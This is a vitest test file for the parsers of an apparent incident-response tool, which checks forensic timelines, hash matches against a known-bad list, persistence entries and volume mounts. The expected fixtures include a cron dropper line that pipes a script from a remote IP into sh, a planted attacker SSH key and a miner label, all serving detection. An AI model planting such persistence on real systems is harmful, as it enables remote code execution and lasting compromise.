import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { findingsOf } from '../../src/clean-room/investigate.js';
import { parseKnownBad } from '../../src/clean-room/known-bad.js';
import {
  matchKnownBad,
  parseHashes,
  parseMounts,
  parsePersistence,
  parseTimeline,
} from '../../src/clean-room/output-parsers.js';

// The emulator's SSM reports success with empty output, so the parsers are tested here on outputs
// recorded by running the service's own command scripts with bash on a prepared root file system
// (fixtures/clean-room/record.ts). mount-volumes.txt is the exception: mounting needs block devices,
// so it is written by hand in the format the mount script prints.
const fixture = (name: string) =>
  readFileSync(join(import.meta.dirname, 'fixtures/clean-room', name), 'utf8');
const VOLUME_ROOT = '/mnt/ir-clean-room/vol-0a1b2c3d4e5f60718/nvme1n1p1';

describe('parseTimeline', () => {
  it('reads the count line and every file, newest first, with ISO times', () => {
    // Prepare
    const output = fixture('timeline.txt');
    // Act
    const timeline = parseTimeline(output);
    // Assess
    expect(timeline.total).toBe(10);
    expect(timeline.since).toMatch(/^\d{4}-\d\d-\d\dT/);
    expect(timeline.entries).toHaveLength(10);
    expect(timeline.entries[0]).toEqual({
      modifiedAt: '2026-11-20T03:14:15.000Z',
      size: 133,
      mode: '644',
      owner: 'root',
      path: `${VOLUME_ROOT}/etc/systemd/system/dbus-update.service`,
    });
    expect(timeline.entries.at(-1)?.path).toBe(`${VOLUME_ROOT}/usr/bin/ps`);
  });

  it('keeps tabs inside a path and skips lines that are not entries', () => {
    // Prepare
    const output = 'garbage\n1795144455.5\t12\t755\troot\t/mnt/x/a\tb\nnot\ta\tnumber\tx\ty\n';
    // Act
    const timeline = parseTimeline(output);
    // Assess
    expect(timeline.total).toBeNull();
    expect(timeline.entries.map((e) => e.path)).toEqual(['/mnt/x/a\tb']);
  });
});

describe('parseHashes and matchKnownBad', () => {
  it('matches the recorded listing and scan against the recorded known-bad list, each path once', () => {
    // Prepare
    const knownBad = parseKnownBad(fixture('known-bad.txt'), 'fixture');
    const listing = parseHashes(fixture('system-binary-hashes.txt'));
    const scan = parseHashes(fixture('known-bad-scan-1.txt'));
    // Act
    const matches = matchKnownBad([...scan.hashes, ...listing.hashes], knownBad);
    // Assess
    expect(listing.count).toBe(2);
    expect(listing.hashes.map((h) => h.path)).toEqual([
      `${VOLUME_ROOT}/usr/bin/ps`,
      `${VOLUME_ROOT}/usr/local/bin/dbus-update`,
    ]);
    expect(matches).toEqual([
      {
        sha256: '72d1ead67aebfe2f4a5dfd04fa3aed382130d5658b1aa0b76732d2b5fba1d12d',
        path: `${VOLUME_ROOT}/usr/local/bin/dbus-update`,
        label: 'dbus-update miner dropper',
      },
    ]);
  });

  it('reads binary-mode and escaped sha256sum lines, lower-casing digests', () => {
    // Prepare
    const digest = 'AB'.repeat(32);
    // Act
    const { hashes } = parseHashes(`${digest} *C:/x\n\\${'cd'.repeat(32)}  /mnt/a\\nb\nshort  /x\n`);
    // Assess
    expect(hashes).toEqual([
      { sha256: 'ab'.repeat(32), path: 'C:/x' },
      { sha256: 'cd'.repeat(32), path: '/mnt/a\\nb' },
    ]);
  });
});

describe('parsePersistence', () => {
  it('lists each persistence location found with its effective lines', () => {
    // Prepare
    const output = fixture('persistence.txt');
    // Act
    const entries = parsePersistence(output);
    // Assess
    expect(entries.map((e) => e.kind)).toEqual([
      'cron',
      'cron',
      'cron',
      'systemd',
      'authorized_keys',
      'authorized_keys',
      'ld_preload',
    ]);
    const dropper = entries.find((e) => e.path.endsWith('/etc/cron.d/sysupdate'));
    expect(dropper?.lines).toEqual(['*/5 * * * * root curl -fsSL http://203.0.113.7/u.sh | sh']);
    const rootKeys = entries.find((e) => e.path === `${VOLUME_ROOT}/root/.ssh/authorized_keys`);
    expect(rootKeys?.lines).toEqual([
      'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyForTestsOnly attacker@kali',
    ]);
  });

  it('ignores sections of unknown kinds', () => {
    // Prepare
    const output = '### bogus\t/x\nline\n### cron\t/etc/crontab\n* * * * * root true\n';
    // Act
    const entries = parsePersistence(output);
    // Assess
    expect(entries).toEqual([{ kind: 'cron', path: '/etc/crontab', lines: ['* * * * * root true'] }]);
  });
});

describe('parseMounts', () => {
  it('reads mounted, unmountable and missing lines', () => {
    // Prepare
    const output = fixture('mount-volumes.txt');
    // Act
    const mounts = parseMounts(output);
    // Assess
    expect(mounts.map((m) => [m.status, m.fsType])).toEqual([
      ['mounted', 'ext4'],
      ['unmountable', null],
      ['missing', null],
    ]);
  });
});

describe('findingsOf', () => {
  it('parses only commands that succeeded', () => {
    // Prepare
    const knownBad = parseKnownBad(fixture('known-bad.txt'), 'fixture');
    const results = [
      { name: 'persistence', outcome: 'failed' as const, stdout: fixture('persistence.txt') },
      { name: 'known-bad-scan-1', outcome: 'success' as const, stdout: fixture('known-bad-scan-1.txt') },
      { name: 'timeline', outcome: 'success' as const, stdout: '' },
    ];
    // Act
    const findings = findingsOf(results, knownBad);
    // Assess
    expect(findings.persistence).toEqual([]);
    expect(findings.knownBadMatches).toHaveLength(1);
    expect(findings.timeline).toEqual({ total: null, since: null, entries: [] });
  });
});

describe('parseKnownBad', () => {
  it('reads digests with labels, skips comments, and names the line of anything else', () => {
    // Prepare
    const text = `# list\n${'A'.repeat(64)}\n${'b'.repeat(64)}  trojan x\n\nnot-a-digest\n`;
    // Act
    const read = () => parseKnownBad(text, 'list.txt');
    // Assess
    expect(() => read()).toThrow(/list.txt line 5 is not a SHA-256 digest/);
    expect([...parseKnownBad(text.replace('not-a-digest\n', ''), 'x')]).toEqual([
      ['a'.repeat(64), null],
      ['b'.repeat(64), 'trojan x'],
    ]);
  });
});
